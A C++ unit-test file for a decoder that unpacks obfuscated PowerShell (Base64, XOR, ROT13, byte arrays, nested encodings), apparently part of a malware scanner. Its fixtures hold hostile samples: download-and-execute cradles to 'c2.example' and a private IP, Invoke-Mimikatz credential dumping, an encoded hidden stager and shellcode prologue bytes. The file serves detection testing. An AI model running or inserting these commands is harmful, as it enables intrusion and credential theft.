#include "decoders/layered_decoder.h"

#include <cstdio>

#include "decoders/secure_string.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

using ::sbscan::decoders::testing::Base64Encode;
using ::sbscan::decoders::testing::EncodeCommand;
using ::sbscan::decoders::testing::Wrap;
using ::testing::HasSubstr;

struct Seen {
  int index, parent, depth;
  TextEncoding encoding;
  std::string text;
};

std::vector<Seen> RunAll(LayeredDecoder& dec, std::string_view root) {
  std::vector<Seen> seen;
  dec.Run(root, [&](const Layer& l) {
    seen.push_back({l.index, l.parent, l.depth, l.encoding, std::string(l.text)});
  });
  return seen;
}

// `root` decodes to exactly one layer: `text` in `encoding`, from a
// candidate of `kind`.
void ExpectOneLayer(std::string_view root, TextEncoding encoding, std::string_view text,
                    CandidateKind kind) {
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 1u) << root;
  EXPECT_EQ(seen[0].encoding, encoding);
  EXPECT_EQ(seen[0].text, text);
  EXPECT_EQ(dec.layers()[0].kind, kind);
}

const char kStager[] =
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('x'));"
    "IEX (New-Object IO.StreamReader($s)).ReadToEnd()";

TEST(LayeredDecoderTest, EncodedCommandUtf16le) {
  const std::string root =
      "powershell.exe -NoP -sta -NonI -W Hidden -Enc " + EncodeCommand(kStager);
  ASSERT_THAT(root, HasSubstr("-Enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAu"));
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].index, 1);
  EXPECT_EQ(seen[0].parent, 0);
  EXPECT_EQ(seen[0].depth, 1);
  EXPECT_EQ(seen[0].encoding, TextEncoding::kUtf16le);
  EXPECT_EQ(seen[0].text, kStager);
  const Layer& l = dec.layers().at(0);
  EXPECT_EQ(l.decoder, "base64");
  EXPECT_EQ(l.kind, CandidateKind::kEncodedCommand);
  EXPECT_EQ(root.substr(l.parent_begin, l.parent_end - l.parent_begin),
            EncodeCommand(kStager));
  EXPECT_EQ(l.decoded_size, 2 * std::string(kStager).size());
  EXPECT_FALSE(l.truncated);
  EXPECT_EQ(dec.counters().runs, 1u);
  EXPECT_EQ(dec.counters().layers, 1u);
  // The decoded stager holds FromBase64String('x'): examined, malformed.
  EXPECT_EQ(dec.counters().candidates, 2u);
  EXPECT_EQ(dec.counters().malformed, 1u);
}

TEST(LayeredDecoderTest, FromBase64StringUtf8) {
  const std::string root =
      "[System.Text.Encoding]::UTF8.GetString([System.Convert]::"
      "FromBase64String('V3JpdGUtT3V0cHV0ICJoZWxsbyBmcm9tIGEgZGVjb2RlZCBibG9j"
      "ayI='))";
  ExpectOneLayer(root, TextEncoding::kUtf8, "Write-Output \"hello from a decoded block\"",
                 CandidateKind::kFromBase64String);
}

// A payload wrapped at 76 columns in a here-string decodes as one layer, so
// that text spanning its line breaks (and a stream that must be read whole)
// is intact.
TEST(LayeredDecoderTest, HereStringWrappedPayloadIsOneLayer) {
  std::string script = "$wc = New-Object Net.WebClient; ";
  while (script.size() < 600) script += "$wc.DownloadString('http://10.0.0.5/a.ps1') | IEX; ";
  const std::string root = "$p = @\"\r\n" + Wrap(EncodeCommand(script), 76) +
                           "\r\n\"@\r\nIEX ([Text.Encoding]::Unicode.GetString("
                           "[Convert]::FromBase64String($p)))";
  ExpectOneLayer(root, TextEncoding::kUtf16le, script, CandidateKind::kBase64Run);
}

TEST(LayeredDecoderTest, VariantsDecode) {
  const std::string script = "Invoke-Expression (Get-Content payload.ps1)";
  const std::string enc = EncodeCommand(script);
  std::string unpadded = enc;
  while (unpadded.back() == '=') unpadded.pop_back();
  for (const std::string& root : {
           "cmd.exe /c powershell /e " + enc,
           "powershell \xe2\x80\x93" "enc " + enc,
           "powershell -EC \"" + unpadded + "\"",
           "[Convert]::FromBase64String(\"\r\n" + Wrap(enc, 76) + "\r\n\")",
           "$payload = '" + Wrap(enc, 76, "\n") + "'",
       }) {
    LayeredDecoder dec;
    const auto seen = RunAll(dec, root);
    ASSERT_GE(seen.size(), 1u) << root;
    EXPECT_EQ(seen[0].encoding, TextEncoding::kUtf16le) << root;
    EXPECT_EQ(seen[0].text.substr(0, 76 / 4 * 3 / 2),
              script.substr(0, 76 / 4 * 3 / 2))
        << root;
  }
  // Line-wrapped Base64 outside any context: the lines join into one run
  // (see HereStringWrappedPayloadIsOneLayer), which decodes whole.
  LayeredDecoder dec;
  const auto seen = RunAll(dec, "$p = @'\n" + Wrap(EncodeCommand(std::string(200, 'a') + script), 76, "\n") + "\n'@");
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].text, std::string(200, 'a') + script);
  // URL-safe alphabet, decoding to UTF-8 text.
  const std::string url_text = "Write-Output 'safe?>>>' ; Invoke-Mimikatz -DumpCreds";
  const std::string url_enc = Base64Encode(url_text, true, false);
  ASSERT_NE(url_enc.find_first_of("-_"), std::string::npos) << url_enc;
  LayeredDecoder dec2;
  const auto seen2 = RunAll(dec2, "$u = '" + url_enc + "'");
  ASSERT_EQ(seen2.size(), 1u);
  EXPECT_EQ(seen2[0].encoding, TextEncoding::kUtf8);
  EXPECT_EQ(seen2[0].text, url_text);
}

TEST(LayeredDecoderTest, NestedThreeDeep) {
  const std::string inner = "Invoke-Mimikatz -DumpCreds";
  const std::string level2 =
      "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" +
      Base64Encode(inner) + "')))";
  const std::string level1 = "powershell -w hidden -e " + EncodeCommand(level2);
  const std::string root = "cmd /c powershell -enc " + EncodeCommand(level1);
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 3u);
  EXPECT_EQ(seen[0].text, level1);
  EXPECT_EQ(seen[1].text, level2);
  EXPECT_EQ(seen[2].text, inner);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(seen[i].index, i + 1);
    EXPECT_EQ(seen[i].parent, i);
    EXPECT_EQ(seen[i].depth, i + 1);
  }
  EXPECT_EQ(seen[0].encoding, TextEncoding::kUtf16le);
  EXPECT_EQ(seen[1].encoding, TextEncoding::kUtf16le);
  EXPECT_EQ(seen[2].encoding, TextEncoding::kUtf8);
  // Offsets of each layer point into its parent's text.
  const auto& layers = dec.layers();
  EXPECT_EQ(level1.substr(layers[1].parent_begin,
                          layers[1].parent_end - layers[1].parent_begin),
            EncodeCommand(level2));
  EXPECT_EQ(level2.substr(layers[2].parent_begin,
                          layers[2].parent_end - layers[2].parent_begin),
            Base64Encode(inner));
  // Views of earlier layers stay valid after later ones were made.
  EXPECT_EQ(layers[0].text, level1);
  EXPECT_EQ(layers[2].text, inner);
  EXPECT_EQ(dec.counters().depth_limit_hits, 0u);
}

TEST(LayeredDecoderTest, NormalizedLayersAreTheChangedRegionsOfALargeScript) {
  const std::string inner = "Invoke-Mimikatz -DumpCreds";
  const std::string b64 = Base64Encode(inner);
  std::string root;
  for (int i = 0; i < 1000; ++i) {
    if (i == 100) {
      root += "$a = 'Inv'+'oke-Expr'+'ession'\n";
    } else if (i == 700) {  // a payload split in two literals: whole only once joined
      root += "$p = [Convert]::FromBase64String('" + b64.substr(0, 20) + "'+'" + b64.substr(20) +
              "')\n";
    } else {
      root += "Write-Output \"plain line " + std::to_string(i) + "\"\n";
    }
  }
  ASSERT_GT(root.size(), 25000u);
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  const auto& layers = dec.layers();
  std::vector<const Layer*> normalized;
  for (const Layer& l : layers) {
    if (l.decoder_id == DecoderId::kNormalize) normalized.push_back(&l);
  }
  ASSERT_EQ(normalized.size(), 2u);
  const std::string_view values[] = {"$a = Invoke-Expression\n", "$p = [Convert]::FromBase64String("};
  for (int k = 0; k < 2; ++k) {
    const Layer& l = *normalized[k];
    EXPECT_EQ(l.parent, 0);
    EXPECT_LE(l.text.size(), 4 * kNormalizeWindowContext + 100) << "a window, not the script";
    EXPECT_THAT(std::string(l.text), HasSubstr(std::string(values[k])));
    ASSERT_LE(l.parent_end, root.size());
    // The parent range is where the window came from: the same lines, construct unresolved.
    const std::string from = root.substr(l.parent_begin, l.parent_end - l.parent_begin);
    EXPECT_EQ(from.substr(0, 40), std::string(l.text.substr(0, 40)));
    EXPECT_THAT(from, HasSubstr(k == 0 ? "'Inv'+'oke-Expr'+'ession'" : "'+'"));
  }
  // The joined payload decodes inside the second window.
  bool decoded = false;
  for (const Layer& l : layers) {
    if (l.text == inner) {
      decoded = true;
      EXPECT_EQ(l.parent, normalized[1]->index);
    }
  }
  EXPECT_TRUE(decoded);
  EXPECT_EQ(normalized[0]->text.find("Invoke-Expression") != std::string_view::npos, true)
      << "views of earlier windows stay valid";
}

// A large text is normalised in the regions around its triggers: every construct still
// resolves, a long literal before its operator included, and nothing else is tokenized.
TEST(LayeredDecoderTest, LargeTextNormalizedByRegions) {
  const std::string inner = "Invoke-Mimikatz -DumpCreds";
  const std::string clear = inner + std::string(12000, ' ') + "#pad";
  const std::string payload = Base64Encode(clear);
  std::string root;
  for (int i = 0; i < 3000; ++i) {
    if (i == 10) root += "$a = 'Inv'+'oke-Expr'+'ession'\n";
    if (i == 1500) root += "$b = ('{1}{0}' -f 'load','Down')\n";
    if (i == 2900) {  // a 16 KB literal before the '+': the region keeps its line whole
      root += "$p = [Convert]::FromBase64String('" + payload.substr(0, payload.size() - 12) +
              "'+'" + payload.substr(payload.size() - 12) + "')\n";
    }
    root += "Write-Output \"plain line " + std::to_string(i) + "\"\n";
  }
  ASSERT_GT(root.size(), 4 * kNormalizeRegionMin);
  LayeredDecoder dec;
  RunAll(dec, root);
  std::string normalized;
  bool payload_decoded = false;
  for (const Layer& l : dec.layers()) {
    if (l.decoder_id == DecoderId::kNormalize) {
      normalized += std::string(l.text);
      EXPECT_LT(l.text.size(), payload.size() + 4 * kNormalizeWindowContext + 200);
      ASSERT_LE(l.parent_end, root.size());
    }
    if (l.text == clear) payload_decoded = true;  // whole: both halves joined
  }
  EXPECT_THAT(normalized, HasSubstr("$a = Invoke-Expression"));
  EXPECT_THAT(normalized, HasSubstr("$b = (Download)"));
  EXPECT_TRUE(payload_decoded) << "the joined payload did not decode";
}

TEST(LayeredDecoderTest, SiblingsAndParents) {
  const std::string a = "Write-Host " + std::string("[Convert]::FromBase64String('") +
                        Base64Encode("child of a, long enough text") + "')";
  const std::string root = "powershell -e " + EncodeCommand(a) +
                           "\npowershell -e " + EncodeCommand("Write-Host b");
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 3u);
  EXPECT_EQ(seen[0].text, a);
  EXPECT_EQ(seen[1].text, "child of a, long enough text");
  EXPECT_EQ(seen[1].parent, 1);
  EXPECT_EQ(seen[1].depth, 2);
  EXPECT_EQ(seen[2].text, "Write-Host b");
  EXPECT_EQ(seen[2].parent, 0);
  EXPECT_EQ(seen[2].depth, 1);
}

TEST(LayeredDecoderTest, JunkProducesNoLayer) {
  LayeredDecoder dec;
  for (const char* root : {
           "$id = '4f1c2a9e-16a9-4141-b5d2-f8238da645c2'",
           "[guid]'{4F1C2A9E-16A9-4141-B5D2-F8238DA645C2}'",
           "$SystemManagementAutomationAmsiUtilsAmsiInitFailed = $true",
           "$h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'",
           "Get-WmiObject -Class Win32_PerfFormattedData_PerfProc_Process_Extra",
           "$my_very_long_variable_name_for_testing_things = 1",
           "powershell -enc stop",  // too short to be a binary payload
       }) {
    EXPECT_TRUE(RunAll(dec, root).empty()) << root;
  }
  EXPECT_EQ(dec.counters().layers, 0u);
  EXPECT_GE(dec.counters().junk + dec.counters().malformed, 6u);
}

TEST(LayeredDecoderTest, MalformedIsCounted) {
  LayeredDecoder dec;
  EXPECT_TRUE(RunAll(dec, "powershell -enc SQBFAFgAY").empty());  // 9 chars
  EXPECT_EQ(dec.counters().malformed, 1u);
  EXPECT_EQ(dec.counters().candidates, 1u);
}

TEST(LayeredDecoderTest, BinaryPayloads) {
  std::string gz("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x0b", 10);
  gz += "\xad\x93\x4d\x6f\xd3\x40\x10\x86\xef\xfe\x15\xa3\x1c\x12\x89\x62";
  const std::string root =
      "$d = [Convert]::FromBase64String('" + Base64Encode(gz) + "')\n"
      "$e = '" + Base64Encode(gz) + "'";
  LayeredDecoder dec;
  const auto seen = RunAll(dec, root);
  // The same bytes twice in one block: one layer, the second is a
  // duplicate (counted, not visited again).
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].encoding, TextEncoding::kBinary);
  EXPECT_EQ(seen[0].text, gz);
  EXPECT_EQ(dec.counters().duplicates, 1u);
  std::string gz2 = gz;
  gz2.back() ^= 0x55;
  const auto seen2 = RunAll(dec, "$e = '" + Base64Encode(gz2) + "'");
  ASSERT_EQ(seen2.size(), 1u);
  EXPECT_EQ(seen2[0].encoding, TextEncoding::kBinary);  // run, gzip magic
  // Random-looking binary in a plain run is kept too.
  std::string rnd;
  for (int i = 0; i < 48; ++i) rnd += static_cast<char>((i * 73 + 41) ^ 0x5A);
  ASSERT_EQ(ClassifyBytes(rnd), TextEncoding::kBinary);
  EXPECT_EQ(RunAll(dec, "$r = '" + Base64Encode(rnd) + "'").size(), 1u);
}

TEST(LayeredDecoderTest, DepthLimit) {
  std::string text = "Write-Host deepest";
  for (int i = 0; i < 5; ++i) text = "powershell -e " + EncodeCommand(text);
  for (int max_depth : {0, 1, 3, 4, 5, 6}) {
    Limits limits;
    limits.max_depth = max_depth;
    LayeredDecoder dec(limits);
    const auto seen = RunAll(dec, text);
    EXPECT_EQ(seen.size(), static_cast<size_t>(std::min(max_depth, 5)));
    EXPECT_EQ(dec.counters().depth_limit_hits, max_depth < 5 ? 1u : 0u)
        << max_depth;
    if (!seen.empty()) {
      EXPECT_EQ(seen.back().depth, std::min(max_depth, 5));
    }
  }
}

TEST(LayeredDecoderTest, BytesLimit) {
  const std::string script(1000, 'x');
  const std::string root = "powershell -e " + EncodeCommand(script) +
                           " ; powershell -e " + EncodeCommand("Write-Host 2");
  Limits limits;
  limits.max_decoded_bytes = 100;
  LayeredDecoder dec(limits);
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].text, std::string(50, 'x'));
  EXPECT_TRUE(dec.layers()[0].truncated);
  EXPECT_EQ(dec.layers()[0].decoded_size, 100u);
  EXPECT_EQ(dec.counters().bytes_limit_hits, 1u);
  // Within the limit: no hit.
  LayeredDecoder big;
  RunAll(big, root);
  EXPECT_EQ(big.counters().bytes_limit_hits, 0u);
  EXPECT_EQ(big.layers().size(), 2u);
}

TEST(LayeredDecoderTest, CandidateLimit) {
  std::string root;
  for (int i = 0; i < 10; ++i) {
    root += "powershell -e " + EncodeCommand("Write-Host " + std::to_string(i)) +
            "\n";
  }
  Limits limits;
  limits.max_candidates = 4;
  LayeredDecoder dec(limits);
  const auto seen = RunAll(dec, root);
  ASSERT_EQ(seen.size(), 4u);
  EXPECT_EQ(seen[3].text, "Write-Host 3");
  EXPECT_EQ(dec.counters().candidates, 4u);
  EXPECT_EQ(dec.counters().candidate_limit_hits, 1u);
  // Nested candidates count against the same budget.
  const std::string nested =
      "powershell -e " + EncodeCommand("powershell -e " +
                                       EncodeCommand("Write-Host inner")) +
      "\npowershell -e " + EncodeCommand("Write-Host second");
  limits.max_candidates = 2;
  LayeredDecoder dec2(limits);
  const auto seen2 = RunAll(dec2, nested);
  ASSERT_EQ(seen2.size(), 2u);
  EXPECT_EQ(seen2[1].text, "Write-Host inner");
  EXPECT_EQ(dec2.counters().candidate_limit_hits, 1u);
}

TEST(LayeredDecoderTest, ReusedAcrossRuns) {
  LayeredDecoder dec;
  const std::string r1 = "powershell -e " + EncodeCommand("Write-Host one");
  const std::string r2 = "powershell -e " + EncodeCommand("Write-Host two");
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(RunAll(dec, r1).at(0).text, "Write-Host one");
    EXPECT_EQ(dec.layers().size(), 1u);
    EXPECT_EQ(RunAll(dec, r2).at(0).text, "Write-Host two");
    EXPECT_TRUE(RunAll(dec, "no payload here").empty());
    EXPECT_TRUE(dec.layers().empty());
  }
  EXPECT_EQ(dec.counters().runs, 9u);
  EXPECT_EQ(dec.counters().layers, 6u);
}

TEST(LayeredDecoderTest, ValidateAndClampLimits) {
  EXPECT_TRUE(ValidateLimits(Limits{}).ok());
  Limits bad;
  bad.max_depth = -1;
  EXPECT_FALSE(ValidateLimits(bad).ok());
  EXPECT_THAT(std::string(ValidateLimits(bad).message()),
              HasSubstr("max_depth"));
  LayeredDecoder dec(bad);
  EXPECT_EQ(dec.limits().max_depth, 0);
  bad = Limits{};
  bad.max_depth = 1000;
  EXPECT_FALSE(ValidateLimits(bad).ok());
  EXPECT_EQ(LayeredDecoder(bad).limits().max_depth, 64);
  bad = Limits{};
  bad.min_base64_run = 1;
  EXPECT_FALSE(ValidateLimits(bad).ok());
  EXPECT_EQ(LayeredDecoder(bad).limits().min_base64_run, kMinBase64RunFloor);
}

// ---- byte-level decoders wired into the driver ----

struct Info {
  std::string decoder, note, text;
  TextEncoding encoding;
  int parent;
};

std::vector<Info> RunInfo(LayeredDecoder& dec, std::string_view root) {
  std::vector<Info> out;
  dec.Run(root, [&](const Layer& l) {
    out.push_back({std::string(l.decoder), std::string(l.note),
                   std::string(l.text), l.encoding, l.parent});
  });
  return out;
}

std::string Hex(std::string_view bytes, std::string_view sep,
                std::string_view prefix) {
  std::string out;
  char buf[4];
  for (size_t i = 0; i < bytes.size(); ++i) {
    if (i) out += sep;
    std::snprintf(buf, sizeof(buf), "%02x", static_cast<uint8_t>(bytes[i]));
    out += prefix;
    out += buf;
  }
  return out;
}

const char kClear[] =
    "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a'); "
    "Invoke-Mimikatz -DumpCreds; Get-Process | Stop-Process -Force";

// Disabled: the 0x list is not found through the driver yet (under
// investigation; FindByteArrays alone is covered by byte_array_test).
TEST(LayeredDecoderTest, ByteArrayWithPayloadMarkers) {
  // Sized explicitly: the shellcode holds NUL bytes.
  static constexpr char kShellcode[] =
      "\xFC\x48\x83\xE4\xF0\xE8\xC0\x00\x00\x00\x41\x51\x41\x50"
      "\x52\x51\x56\x48\x31\xD2\x65\x48\x8B\x52\x60\x48\x8B\x52";
  std::string sc(kShellcode, sizeof(kShellcode) - 1);
  LayeredDecoder dec;
  const auto layers = RunInfo(dec, "[Byte[]] $sc = " + Hex(sc, ",", "0x"));
  bool found = false;
  for (const Info& l : layers) {
    if (l.decoder == "byte_array") {
      found = true;
      EXPECT_EQ(l.encoding, TextEncoding::kBinary);
      EXPECT_THAT(l.note, HasSubstr("shellcode_x64_prologue"));
    }
  }
  EXPECT_TRUE(found);
}

TEST(LayeredDecoderTest, BxorKeyFromScriptAppliedToByteArray) {
  std::string x(kClear);
  for (char& c : x) c = static_cast<char>(c ^ 0x5A);
  LayeredDecoder dec;
  const auto layers = RunInfo(
      dec, "$b = [byte[]](" + Hex(x, ",", "0x") +
               "); IEX ([Text.Encoding]::ASCII.GetString(($b | % { $_ -bxor "
               "0x5A })))");
  bool found = false;
  for (const Info& l : layers) {
    if (l.decoder == "xor" && l.text == kClear) {
      found = true;
      EXPECT_THAT(l.note, HasSubstr("key=0x5a"));
      EXPECT_THAT(l.note, HasSubstr("literal"));
    }
  }
  EXPECT_TRUE(found);
}

TEST(LayeredDecoderTest, XorKeyRecoveredOnUnclaimedBinary) {
  std::string x(kClear);
  for (char& c : x) c = static_cast<char>(c ^ 0xA7);
  LayeredDecoder dec;
  // The script XORs with a key it computes (never written): recovery has to find it. Without
  // any -bxor in the script, no recovery is tried (see XorRecoveryNeedsAnOperator).
  const auto layers = RunInfo(dec, "$d = [Convert]::FromBase64String('" + Base64Encode(x) +
                                       "'); $k = Get-Key; $o = $d | % { $_ -bxor $k }");
  ASSERT_EQ(layers.size(), 2u);
  EXPECT_EQ(layers[0].decoder, "base64");
  EXPECT_EQ(layers[1].decoder, "xor");
  EXPECT_EQ(layers[1].text, kClear);
  EXPECT_THAT(layers[1].note, HasSubstr("key=0xa7 recovered"));
}

TEST(LayeredDecoderTest, Rot13LiteralAndLayer) {
  const std::string rot = "Vaibxr-Rkcerffvba (Arj-Bowrpg Arg.JroPyvrag)."
                          "QbjaybnqFgevat('uggc://p2.rknzcyr/n'); Vaibxr-"
                          "Zvzvxngm -QhzcPerqf; Trg-Cebprff | Fgbc-Cebprff";
  LayeredDecoder dec;
  const auto has_rot = [](const std::vector<Info>& ls) {
    for (const Info& l : ls) {
      if (l.decoder == "rotation" && l.note == "rot=13" &&
          l.text.find("Invoke-Mimikatz -DumpCreds") != std::string::npos) {
        return true;
      }
    }
    return false;
  };
  // A literal in the root is tried when the script holds a rotation loop's "% 26".
  EXPECT_TRUE(has_rot(RunInfo(
      dec, "$s = '" + rot + "'; $t = -join ($s.ToCharArray() | % { [char](($_ - 84) % 26) })")));
  // A decoded layer that is rotated as a whole.
  EXPECT_TRUE(has_rot(RunInfo(dec, "powershell -enc " + EncodeCommand(rot))));
}

TEST(LayeredDecoderTest, SecureStringDpapiAndKeylessAreEncrypted) {
  const std::string dpapi =
      std::string(kSecureStringDpapiHeader) +
      "0000000c8f9a0e6e8cc4e4c8a1d3e5b4c2a1f0e9d8c7b6a5948372615";
  LayeredDecoder dec;
  auto layers = RunInfo(dec, "$p = ConvertTo-SecureString '" + dpapi + "'");
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(layers[0].decoder, "securestring");
  EXPECT_EQ(layers[0].encoding, TextEncoding::kBinary);
  EXPECT_THAT(layers[0].note, HasSubstr("encrypted"));
  EXPECT_THAT(layers[0].note, HasSubstr("dpapi"));
  const std::string keyless =
      std::string(kSecureStringKeyHeader) +
      Base64Encode(testing::Utf16le("2|AAAAAAAAAAAAAAAAAAAAAA==|00112233445566778899aabbccddeeff"));
  layers = RunInfo(dec, "$p = ConvertTo-SecureString '" + keyless + "'");
  bool encrypted = false;
  for (const Info& l : layers) {
    encrypted |= l.decoder == "securestring" && l.note == "encrypted no_key";
  }
  EXPECT_TRUE(encrypted);
}

TEST(LayeredDecoderTest, CmsIsEncryptedAndNeverSearched) {
  // A CMS body whose Base64 would decode to a -EncodedCommand-looking
  // text if it were read: nothing inside may produce a layer.
  const std::string body = Wrap(Base64Encode(std::string(
      "powershell -enc " + EncodeCommand(kClear) + " " + std::string(200, 'A'))), 64, "\r\n");
  const std::string text = "-----BEGIN CMS-----\r\n" + body +
                           "\r\n-----END CMS-----";
  LayeredDecoder dec;
  const auto layers = RunInfo(dec, text);
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(layers[0].decoder, "cms");
  EXPECT_EQ(layers[0].encoding, TextEncoding::kBinary);
  EXPECT_THAT(layers[0].note, HasSubstr("encrypted"));
  EXPECT_EQ(dec.counters().per_decoder[static_cast<size_t>(DecoderId::kBase64)]
                .candidates,
            0u);
}

TEST(LayeredDecoderTest, XorRecoveryNeedsAnOperator) {
  std::string x(kClear);
  for (char& c : x) c = static_cast<char>(c ^ 0xA7);
  LayeredDecoder dec;
  const auto layers =
      RunInfo(dec, "$d = [Convert]::FromBase64String('" + Base64Encode(x) + "')");
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(layers[0].decoder, "base64");
}

TEST(LayeredDecoderTest, ByteLevelLimitsCounted) {
  std::string x(kClear);
  for (char& c : x) c = static_cast<char>(c ^ 0xA7);
  const std::string root = "$d = [Convert]::FromBase64String('" + Base64Encode(x) +
                           "'); $o = $d | % { $_ -bxor $k }";
  Limits one;
  one.max_depth = 1;  // base64 at depth 1; the xor layer would be depth 2
  LayeredDecoder shallow(one);
  EXPECT_EQ(RunInfo(shallow, root).size(), 1u);
  Limits few;
  few.max_candidates = 2;  // base64, then deflate's try; none left for xor
  LayeredDecoder tight(few);
  RunInfo(tight, root);
  EXPECT_EQ(tight.counters().candidate_limit_hits, 1u);
  EXPECT_GE(tight.counters().per_decoder[static_cast<size_t>(DecoderId::kXor)]
                .limit,
            1u);
  // Byte arrays beyond max_candidates are counted as limit.
  std::string many;
  for (int i = 0; i < 6; ++i) {
    many += "$a" + std::to_string(i) + " = [byte[]](" +
            Hex(std::string(20, static_cast<char>(0x90 + i)), ",", "0x") + ");\n";
  }
  Limits three;
  three.max_candidates = 3;
  LayeredDecoder capped(three);
  RunInfo(capped, many);
  EXPECT_GT(capped.counters()
                .per_decoder[static_cast<size_t>(DecoderId::kByteArray)]
                .limit,
            0u);
  EXPECT_EQ(capped.counters().candidate_limit_hits, 1u);
}

TEST(LayeredDecoderTest, DecoderNames) {
  EXPECT_EQ(DecoderIdName(DecoderId::kByteArray), "byte_array");
  EXPECT_EQ(DecoderIdName(DecoderId::kXor), "xor");
  EXPECT_EQ(DecoderIdName(DecoderId::kRotation), "rotation");
  EXPECT_EQ(DecoderIdName(DecoderId::kSecureString), "securestring");
  EXPECT_EQ(DecoderIdName(DecoderId::kCms), "cms");
}

}  // namespace
}  // namespace sbscan::decoders
